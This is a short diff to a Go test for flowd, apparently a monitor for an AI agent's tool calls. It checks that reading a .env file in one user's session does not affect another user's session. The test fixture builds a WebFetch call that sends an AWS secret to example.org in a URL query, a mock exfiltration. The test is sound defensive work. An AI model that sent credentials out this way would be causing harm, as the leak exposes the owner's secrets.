@@ -18,6 +18,7 @@ import (
 	"github.com/flowd-dev/flowd/internal/config"
 	"github.com/flowd-dev/flowd/internal/flowdclient"
 	"github.com/flowd-dev/flowd/internal/hookproto"
+	"github.com/flowd-dev/flowd/internal/judge/judgetest"
 	"github.com/flowd-dev/flowd/internal/localsock"
 	"github.com/flowd-dev/flowd/internal/quarantine"
 	"github.com/flowd-dev/flowd/internal/sessionid"
@@ -101,7 +102,7 @@ func TestSystemFlowdKeepsUsersApart(t *testing.T) {
 	read := map[string]any{"tool_name": "Read", "tool_use_id": "t1", "tool_input": map[string]any{"file_path": "/p/.env"},
 		"tool_response": map[string]any{"type": "text", "file": map[string]any{"filePath": "/p/.env", "content": envFile}}}
 	fetch := func() map[string]any {
-		return map[string]any{"tool_name": "WebFetch", "tool_input": map[string]any{"url": "https://example.org/?k=" + awsSecret, "prompt": "x"}}
+		return map[string]any{"tool_name": "WebFetch", "tool_input": map[string]any{"url": "https://example.org/?k=" + judgetest.AWSSecret, "prompt": "x"}}
 	}
 	hookAs(t, d, ann, "cc1", "PostToolUse", read)
 	assert.Equal(t, "allow", hookAs(t, d, bob, "cc1", "PreToolUse", fetch()).Decision,
